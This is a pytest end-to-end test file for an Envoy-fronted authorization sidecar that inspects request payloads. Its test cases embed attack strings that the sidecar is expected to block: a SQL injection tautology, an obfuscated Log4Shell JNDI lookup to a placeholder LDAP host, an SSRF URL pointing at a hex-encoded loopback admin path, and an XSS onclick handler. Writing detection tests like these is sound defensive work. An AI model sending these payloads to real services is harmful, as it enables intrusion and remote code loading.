"""Payload inspection end to end: client -> real Envoy (body forwarded) -> sidecar -> echo upstream.

One fixture (``inspected``) makes the Envoy + sidecar pair; tests only send requests through it, so
the pair can later be parametrized over the sidecar's transports.
"""

from __future__ import annotations

import http.client
import json
from pathlib import Path
from urllib.parse import quote

import pytest

pytestmark = [pytest.mark.e2e, pytest.mark.authz_modes]

HOST = "api.example.com"
BUFFER_LIMIT = 4096
POLICIES = f"""
apiVersion: extauthz.dev/v1
kind: AuthPolicy
metadata: {{name: inspected-api}}
spec:
  match: {{hosts: ["{HOST}"]}}
  inspect:
    exclude:
      - {{rules: [xss], locations: ["body:/article/html"]}}
  rules: [{{name: everyone, decision: allow}}]
"""


@pytest.fixture(scope="module")
def inspected(tmp_path_factory, extauthz_factory, envoy_factory, echo_upstream):
    """The Envoy (body forwarding, partial messages allowed at BUFFER_LIMIT) in front of the sidecar."""
    folder: Path = tmp_path_factory.mktemp("inspect-e2e") / "policies"
    folder.mkdir()
    (folder / "api.yaml").write_text(POLICIES)
    sidecar = extauthz_factory(folder)
    return envoy_factory(ext_authz=sidecar.target, upstream_port=echo_upstream.port,
                         max_request_bytes=BUFFER_LIMIT, allow_partial_message=True)


def send(envoy, method: str, target: str, *, body: bytes = b"", headers: dict[str, str] | None = None):
    conn = http.client.HTTPConnection("127.0.0.1", envoy.port, timeout=10)
    try:
        conn.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", HOST)
        for name, value in (headers or {}).items():
            conn.putheader(name, value)
        if body or method in ("POST", "PUT"):
            conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body or None)
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def post_json(envoy, value: object, **headers: str):
    return send(envoy, "POST", "/api/items", body=json.dumps(value).encode(),
                headers={"Content-Type": "application/json", **headers})


def test_benign_json_reaches_the_upstream(inspected) -> None:
    status, body = post_json(inspected, {"name": "O'Brien", "note": "select the union plan, drop me a line",
                                         "price": 9.99, "url": "https://example.com/a"})
    assert status == 200 and json.loads(body)["path"] == "/api/items"


def test_sql_in_a_json_field_is_refused_with_rule_and_pointer(inspected) -> None:
    status, body = post_json(inspected, {"items": [{"note": "1' or '1'='1"}]})
    answer = json.loads(body)
    assert status == 403 and answer["reason"] == "attack_detected"
    assert "sqli-tautology" in answer["error"] and "body:/items/0/note" in answer["error"]
    assert "1'" not in answer["error"]


def test_obfuscated_log4shell_in_a_header_is_refused(inspected) -> None:
    status, body = send(inspected, "GET", "/api/items", headers={"User-Agent": "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"})
    assert status == 403 and "header:user-agent" in json.loads(body)["error"]


def test_ssrf_in_a_query_parameter_is_refused(inspected) -> None:
    status, body = send(inspected, "GET", "/api/fetch?url=" + quote("http://0x7f000001:8080/admin", safe=""))
    assert status == 403 and "query:url" in json.loads(body)["error"]


def test_exclusion_lets_html_through_in_one_field_only(inspected) -> None:
    html = "<p onclick=\"go()\">hello</p>"
    assert post_json(inspected, {"article": {"html": html}})[0] == 200
    assert post_json(inspected, {"article": {"title": html}})[0] == 403


def test_limits_through_envoy(inspected) -> None:
    status, body = send(inspected, "POST", "/api/items", body=b'{"a": 1, "a": 2}',
                        headers={"Content-Type": "application/json"})
    assert (status, json.loads(body)["reason"]) == (400, "body_duplicate_key")
    big = json.dumps({"blob": "x" * (BUFFER_LIMIT * 2)}).encode()
    status, body = send(inspected, "POST", "/api/items", body=big, headers={"Content-Type": "application/json"})
    assert (status, json.loads(body)["reason"]) == (413, "body_truncated")
